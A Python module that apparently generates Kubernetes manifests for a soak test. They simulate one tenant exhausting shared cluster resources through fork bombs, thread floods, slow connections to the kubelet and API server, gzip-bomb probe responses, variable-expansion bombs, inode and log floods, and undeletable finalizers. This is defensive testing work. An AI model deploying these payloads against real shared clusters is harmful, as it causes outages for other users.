"""Manifests of attacks on shared resources by pods and claims of one attendee. Pure.

Each attack is a list of objects for one namespace. The sizes are bounded, so that an attack that succeeds
harms a machine of 8 GiB no more than a large program.
"""

import copy
from collections.abc import Callable

from kitlib.k8s.manifests import Object

MEGABYTE = 10**6
LABELS = {"soak": "attack"}
FINALIZER = "example.com/hold"
SLEEP = "; sleep 600"
THREADS = """
import threading, time
threading.stack_size(32768)
try:
    for _ in range(6000):
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
except RuntimeError:
    pass
print("full", flush=True)
time.sleep(600)
"""
SHELL_BOMB = "f() { f | f & }; f; sleep 600"
CONNECTIONS = """
import resource, socket, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
kept = []
for port, first in ((10250, b""), (10250, b"GET / HTTP/1.1\\r\\n"), (4443, b""), (4443, b"\\x16\\3\\1\\2"),
                    (6443, b""), (6443, b"\\x16\\3\\1\\2"), (53, b"\\0"), (53, b"\\xff\\xff" + bytes(8))):
    for _ in range(700):
        client = socket.socket()
        client.setblocking(False)
        client.connect_ex(("10.244.254.1" if port > 10000 else "10.244.0.1", port))
        kept.append((client, first))
print("connected", flush=True)
while True:  # a byte now and then, as a slow client sends
    for client, first in kept:
        try:
            client.send(first[:1] or b"")
        except OSError:
            pass
    time.sleep(1)
"""
SMALL_FILES = """
import os, time
for number in range(40_000):
    if number % 1000 == 0:
        os.makedirs(f"/v/{number}", exist_ok=True)
    open(f"/v/{number - number % 1000}/{number}", "w").close()
print("full", flush=True)
time.sleep(600)
"""
LINKS = """
import os, time
open("/v/sparse", "w").truncate(1 << 42)
with open("/v/file", "wb") as file:
    file.write(bytes(1 << 20))
for number in range(20_000):
    os.link("/v/file", f"/v/link{number}")
for number, target in enumerate(("/", "..", "../../..", "/proc/1/root", "/v", "sparse")):
    os.symlink(target, f"/v/symlink{number}")
print("full", flush=True)
time.sleep(600)
"""
UNLINKED = """
import os, time
file = open("/v/unlinked", "wb")
os.unlink("/v/unlinked")
for _ in range(400):
    file.write(bytes(1 << 20))
    file.flush()
time.sleep(600)
"""
CHANGING = """
import os, shutil, time
while True:
    for number in range(200):
        os.makedirs(f"/v/{number}/a/b/c", exist_ok=True)
        open(f"/v/{number}/a/file", "w").close()
    for number in range(200):
        os.rename(f"/v/{number}/a", f"/v/{number}/z")
        shutil.rmtree(f"/v/{number}")
"""
# Responses to HTTP probes: endless bodies, headers, status lines, interim responses, and 200 MB compressed.
ANSWERS = """
import gzip, socket, sys, threading
packed = gzip.compress(bytes(200_000_000))
firsts = {
    "body": b"200 OK\\r\\nContent-Length: 100000000000\\r\\n\\r\\n",
    "headers": b"200 OK\\r\\n",
    "status": b"500 ",
    "packed": b"500 OK\\r\\nContent-Encoding: gzip\\r\\n\\r\\n" + packed,
    "interim": b"100 Continue\\r\\n\\r\\n",
}
repeated = {"headers": b"X: " + b"y" * 8000 + b"\\r\\n", "interim": b"HTTP/1.1 100 Continue\\r\\n\\r\\n" * 99}

def serve(client):
    with client:
        try:
            client.recv(4096)
            client.sendall(b"HTTP/1.1 " + firsts[sys.argv[1]])
            while True:
                client.sendall(repeated.get(sys.argv[1], b"z" * 65536))
        except OSError:
            pass

listener = socket.create_server(("", 8080))
while True:
    threading.Thread(target=serve, args=listener.accept()[:1], daemon=True).start()
"""


def container(command: list[str], **fields: object) -> Object:
    image = "python" if command[0] == "python" else "busybox"
    return {"name": "main", "image": image, "command": command, **fields}


def pod(name: str, main: Object, **spec: object) -> Object:
    body = {"terminationGracePeriodSeconds": 1, "restartPolicy": "Always", "containers": [main], **spec}
    return _object("v1", "Pod", name, {"spec": body})


def _object(version: str, kind: str, name: str, body: Object) -> Object:
    return {
        "apiVersion": version,
        "kind": kind,
        "metadata": {"name": name, "labels": LABELS} | body.pop("metadata", {}),
        **body,
    }


def python(source: str, **fields: object) -> Object:
    return container(["python", "-u", "-c", source], **fields)


def shell(script: str, **fields: object) -> Object:
    return container(["sh", "-c", script], **fields)


def _mounted(main: Object, volume: Object, path: str = "/v") -> tuple[Object, list[Object]]:
    """Mount one volume in a container; return both."""
    return main | {"volumeMounts": [{"name": "v", "mountPath": path}]}, [{"name": "v", **volume}]


def _claim(name: str, size: str = "1Mi") -> Object:
    spec = {"accessModes": ["ReadWriteMany"], "resources": {"requests": {"storage": size}}}
    return _object("v1", "PersistentVolumeClaim", name, {"spec": spec})


def _in_volume(source: str, volume: Object, name: str, **spec: object) -> Object:
    main, volumes = _mounted(python(source), volume)
    return pod(name, main, volumes=volumes, **spec)


def _levels(count: int) -> list[Object]:
    """Return variables, each of which contains the previous one twice."""
    first = [{"name": "A0", "value": "x" * 64}]
    return first + [
        {"name": f"A{level}", "value": f"$(A{level - 1})$(A{level - 1})"} for level in range(1, count)
    ]


def expansion_of_open_brackets() -> list[Object]:
    text = "$(" * 40_000
    probe = {"exec": {"command": ["true", text[:100_000]]}, "periodSeconds": 1}
    env = [{"name": "A", "value": text}]
    from_map = [{"configMapRef": {"name": "brackets"}}]
    sub_path = {"name": "v", "mountPath": "/v", "subPathExpr": "$(A)"}
    volume = {"name": "v", "emptyDir": {}}
    return [
        _object("v1", "ConfigMap", "brackets", {"data": {f"B{n}": text for n in range(10)}}),
        pod("in-env", shell("sleep 600", env=env)),
        pod("in-args", container(["sleep", "600"], args=[text] * 8)),
        pod("in-command", container(["sleep", "600", text])),
        pod("in-env-from", shell("sleep 600", envFrom=from_map, env=[{"name": "C", "value": "$(B1)" * 9}])),
        pod("in-probe", shell("sleep 600", livenessProbe=probe, startupProbe=probe)),
        pod("in-hook", shell("sleep 600", lifecycle={"postStart": {"exec": {"command": ["true", text]}}})),
        pod("in-sub-path", shell("sleep 600", env=env, volumeMounts=[sub_path]), volumes=[volume]),
    ]


def expansion_that_doubles() -> list[Object]:
    sub_path = {"name": "v", "mountPath": "/v", "subPathExpr": "$(A39)"}
    volumes = [{"name": "v", "emptyDir": {}}]
    doubled = _levels(40)
    return [
        pod("doubles", shell("sleep 600", env=doubled)),
        pod("doubles-in-args", container(["sleep", "600"], args=["$(A14)" * 2000] * 20, env=_levels(15))),
        pod("doubles-in-sub-path", shell("sleep 600", env=doubled, volumeMounts=[sub_path]), volumes=volumes),
        pod("doubles-first", shell("true"), initContainers=[shell("true", env=doubled) | {"name": "first"}]),
    ]


def many_volumes() -> list[Object]:
    large = {"annotations": {"large": "\u00e9\n" * 60_000}}
    item = {"path": "a", "fieldRef": {"fieldPath": "metadata.annotations"}}
    secret, config = {"secret": {"name": "large"}}, {"configMap": {"name": "large"}}
    kinds: dict[str, Object] = {
        "downward": {"downwardAPI": {"items": [item]}},
        "projected": {"projected": {"sources": [{"downwardAPI": {"items": [item]}}]}},
        "secrets": {"projected": {"sources": [secret]}},
        "configs": {"projected": {"sources": [config]}},
    }
    objects = [
        _object("v1", "Secret", "large", {"stringData": {"k": "x" * MEGABYTE}}),
        _object("v1", "ConfigMap", "large", {"data": {"k": "x" * MEGABYTE}}),
    ]
    for name, source in kinds.items():
        volumes = [{"name": f"v{number}", **source} for number in range(260)]
        manifest = pod(f"many-{name}", shell("sleep 600"), volumes=volumes)
        manifest["metadata"] |= large
        objects.append(manifest)
    return objects


def many_tokens() -> list[Object]:
    volumes = [
        {
            "name": f"v{number}",
            "projected": {
                "sources": [
                    {"serviceAccountToken": {"audience": f"{pod_number}-{number}", "path": "token",
                                             "expirationSeconds": 600}}
                ]
            },
        }
        for number in range(150)
        for pod_number in (0,)
    ]  # fmt: skip
    return [pod(f"tokens-{number}", shell("sleep 600"), volumes=volumes) for number in range(4)]


def memory_of_file_systems() -> list[Object]:
    fill = "head -c 300000000 /dev/zero > /dev/shm/a; head -c 300000000 /dev/zero > /v/a; " + SLEEP[2:]
    limits = {"limits": {"memory": "256Mi"}}
    main, volumes = _mounted(shell(fill, resources=limits), {"emptyDir": {"medium": "Memory"}})
    sized = [{"name": "v", "emptyDir": {"medium": "Memory", "sizeLimit": "1Mi"}}]
    return [
        *(pod(f"memory-{number}", main, volumes=volumes) for number in range(3)),
        pod("memory-sized", copy.deepcopy(main), volumes=sized),
    ]


def page_cache() -> list[Object]:
    script = "while :; do head -c 400000000 /dev/zero > /v/a; cat /v/a > /dev/null; rm /v/a; done"
    limits = {"limits": {"memory": "64Mi"}}
    main, volumes = _mounted(shell(script, resources=limits), {"emptyDir": {}})
    return [pod("page-cache", main, volumes=volumes)]


def bombs() -> list[Object]:
    """Start processes without end in init containers, probes, hooks and as a plain program."""
    limits = {"limits": {"memory": "256Mi"}}
    probe = {"exec": {"command": ["sh", "-c", SHELL_BOMB]}, "periodSeconds": 1, "timeoutSeconds": 1}
    hook = {"postStart": {"exec": {"command": ["sh", "-c", SHELL_BOMB]}}}
    first = shell(SHELL_BOMB, resources=limits) | {"name": "first"}
    return [
        pod("bomb-first", shell("sleep 600", resources=limits), initContainers=[first]),
        pod("bomb-probe", shell("sleep 600", resources=limits, readinessProbe=probe, livenessProbe=probe)),
        pod("bomb-hook", shell("sleep 600", resources=limits, lifecycle=hook)),
        *(pod(f"bomb-{number}", python(THREADS)) for number in range(3)),
    ]


def connections() -> list[Object]:
    return [pod(f"connects-{number}", python(CONNECTIONS)) for number in range(2)]


def log_flood() -> list[Object]:
    return [
        pod("log-lines", shell("yes")),
        pod("log-without-lines", shell("cat /dev/zero")),
        pod("log-of-escapes", shell("while :; do printf '\\033]0;x\\007\\033[2J\\377\\000'; done")),
    ]


def small_files() -> list[Object]:
    claimed = {"persistentVolumeClaim": {"claimName": "small-files"}}
    return [
        _claim("small-files", "1Gi"),
        *(_in_volume(SMALL_FILES, {"emptyDir": {}}, f"small-files-{number}") for number in range(2)),
        _in_volume(SMALL_FILES, claimed, "small-files-claim"),
    ]


def strange_files() -> list[Object]:
    """Sparse files, hard links and symlinks, in a claim that a pod with an fsGroup then mounts."""
    claimed = {"persistentVolumeClaim": {"claimName": "strange-files"}}
    owner = {"securityContext": {"fsGroup": 2000}}
    main, volumes = _mounted(shell("sleep 600"), claimed)
    return [
        _claim("strange-files", "1Gi"),
        _in_volume(LINKS, claimed, "links"),
        _in_volume(LINKS, {"emptyDir": {"sizeLimit": "100Mi"}}, "links-empty-dir"),
        *(pod(f"reads-{number}", main, volumes=volumes, **owner) for number in range(4)),
    ]


def unlinked_files() -> list[Object]:
    claimed = {"persistentVolumeClaim": {"claimName": "unlinked"}}
    return [
        _claim("unlinked"),
        _in_volume(UNLINKED, claimed, "unlinked-claim"),
        _in_volume(UNLINKED, {"emptyDir": {"sizeLimit": "1Mi"}}, "unlinked-empty-dir"),
    ]


def overfull_claim() -> list[Object]:
    claimed = {"persistentVolumeClaim": {"claimName": "overfull"}}
    main, volumes = _mounted(shell("head -c 300000000 /dev/zero > /v/all; sleep 600"), claimed)
    return [_claim("overfull"), pod("fills", main, volumes=volumes)]


def changing_trees() -> list[Object]:
    claimed = {"persistentVolumeClaim": {"claimName": "changing"}}
    main, volumes = _mounted(shell("sleep 600"), claimed)
    owner = {"securityContext": {"fsGroup": 2000}}
    return [
        _claim("changing", "1Gi"),
        _in_volume(CHANGING, claimed, "changes"),
        *(pod(f"given-{number}", main, volumes=volumes, **owner) for number in range(6)),
    ]


def large_specs() -> list[Object]:
    containers = [shell("sleep 600") | {"name": f"c{number}"} for number in range(250)]
    env = [{"name": f"E{number}", "value": "x" * 1000} for number in range(1000)]
    refs = [
        {
            "name": f"E{number}",
            "valueFrom": {"secretKeyRef": {"name": f"s{number}", "key": "k", "optional": True}},
        }
        for number in range(1000)
    ]
    return [
        pod("many-containers", containers[0], initContainers=[c | {"name": f"i{n}", "command": ["true"]}
                                                              for n, c in enumerate(containers[:100])]),
        _object("v1", "Pod", "more-containers", {"spec": {"containers": containers[:60]}}),
        pod("large-environment", shell("sleep 600", env=env)),
        pod("many-references", shell("sleep 600", env=refs)),
    ]  # fmt: skip


def many_keys() -> list[Object]:
    """A ConfigMap of forty thousand keys, in volumes and environments."""
    named = {"name": "keys"}
    volumes = [{"name": f"v{number}", "configMap": named} for number in range(100)]
    sources = [{"prefix": f"P{number}_", "configMapRef": named} for number in range(40)]
    main = shell("sleep 600", envFrom=sources)
    several = {"containers": [main | {"name": f"c{number}"} for number in range(20)]}
    return [
        _object("v1", "ConfigMap", "keys", {"data": {f"k{number:05}": "" for number in range(40_000)}}),
        *(pod(f"keys-{number}", shell("sleep 600"), volumes=volumes) for number in range(6)),
        *(pod(f"variables-{number}", main, **several) for number in range(12)),
    ]


def many_ports() -> list[Object]:
    backends = [pod(f"backend-{number}", shell("sleep 600")) for number in range(3)]
    ports = [{"name": f"p{number}", "port": number} for number in range(1, 6000)]
    spec = {"selector": LABELS, "ports": ports}
    return [*backends, *(_object("v1", "Service", f"ports-{number}", {"spec": spec}) for number in range(8))]


def deep_paths() -> list[Object]:
    deep = "/".join("d" * 1850)
    items = [{"key": "k", "path": f"{number}/{deep}"} for number in range(60)]
    volumes = [{"name": "v", "configMap": {"name": "deep", "items": items}}]
    return [
        _object("v1", "ConfigMap", "deep", {"data": {"k": "x"}}),
        *(pod(f"deep-{number}", shell("sleep 600"), volumes=volumes) for number in range(10)),
    ]


def probe_answers() -> list[Object]:
    probe: Object = {"httpGet": {"port": 8080}, "periodSeconds": 1, "failureThreshold": 1000}
    hooks = {"postStart": {"httpGet": {"port": 8080}}, "preStop": {"httpGet": {"port": 8080}}}
    names = []
    for kind in ("body", "headers", "status", "packed", "interim"):
        main = container(["python", "-u", "-c", ANSWERS, kind], readinessProbe=probe, livenessProbe=probe)
        names.append(pod(f"answers-{kind}", main))
    return [*names, pod("answers-hooks", container(["python", "-u", "-c", ANSWERS, "body"], lifecycle=hooks))]


def probe_output() -> list[Object]:
    names = []
    for number, script in enumerate(("yes", "cat /dev/zero", "cat /dev/zero >&2", "yes & yes & sleep 3")):
        probe = {"exec": {"command": ["sh", "-c", script]}, "periodSeconds": 1, "failureThreshold": 1000}
        hook = {"postStart": {"exec": probe["exec"]}}
        slow = {"timeoutSeconds": 30, "periodSeconds": 1, "exec": {"command": ["sleep", "25"]}}
        names.append(pod(f"output-{number}", shell("sleep 600", readinessProbe=probe, livenessProbe=probe)))
        names.append(pod(f"output-hook-{number}", shell("sleep 600", lifecycle=hook, readinessProbe=slow)))
    return names


def long_texts() -> list[Object]:
    """Lines and termination messages of a hundred megabytes, and special files in their place."""
    line, after = "import sys; sys.stdout.write({!r} * 100_000_000); sys.stdout.flush()", "; sys.exit(3)"
    message = "rm -f /dev/termination-log; {} /dev/termination-log; exit 3"
    scripts = (
        "head -c 100000000 /dev/zero > /dev/termination-log; exit 3",
        message.format("mkfifo"),
        message.format("ln -s /dev/zero"),
        message.format("truncate -s 1T"),
    )
    fallback = {"terminationMessagePolicy": "FallbackToLogsOnError"}
    return [
        pod("line", python(line.format("x") + "; import time; time.sleep(600)")),
        pod("line-at-the-end", python(line.format("x") + after, **fallback)),
        pod("lines-at-the-end", python(line.format("\n") + after, **fallback)),
        *(pod(f"message-{number}", shell(script)) for number, script in enumerate(scripts)),
    ]


def years_of_grace() -> list[Object]:
    years = {"terminationGracePeriodSeconds": 10**9}
    deaf = shell("trap '' TERM; while :; do sleep 1; done")
    body = {"containers": [deaf], "restartPolicy": "Never"} | years
    job = {"template": {"metadata": {"labels": LABELS}, "spec": body}}
    return [
        pod("years", deaf, **years),
        _object("batch/v1", "Job", "years", {"spec": job}),
    ]


def finalizers() -> list[Object]:
    """Objects whose finalizer is never removed, so that neither they nor their namespace can be deleted."""
    body = {"containers": [shell("sleep 600")], "restartPolicy": "Never"}
    job = {"template": {"metadata": {"labels": LABELS}, "spec": body}, "completions": 5, "parallelism": 5}
    objects = [
        *(pod(f"held-{number}", shell("true"), restartPolicy="Never") for number in range(20)),
        *(_claim(f"held-{number}") for number in range(20)),
        _object("batch/v1", "Job", "held", {"spec": job}),
    ]
    return [item | {"metadata": item["metadata"] | {"finalizers": [FINALIZER]}} for item in objects]


ATTACKS: dict[str, Callable[[], list[Object]]] = {
    attack.__name__: attack
    for attack in (
        expansion_of_open_brackets,
        expansion_that_doubles,
        many_volumes,
        many_tokens,
        memory_of_file_systems,
        page_cache,
        bombs,
        connections,
        log_flood,
        small_files,
        strange_files,
        overfull_claim,
        unlinked_files,
        changing_trees,
        large_specs,
        many_keys,
        many_ports,
        deep_paths,
        probe_answers,
        probe_output,
        long_texts,
        years_of_grace,
        finalizers,
    )
}
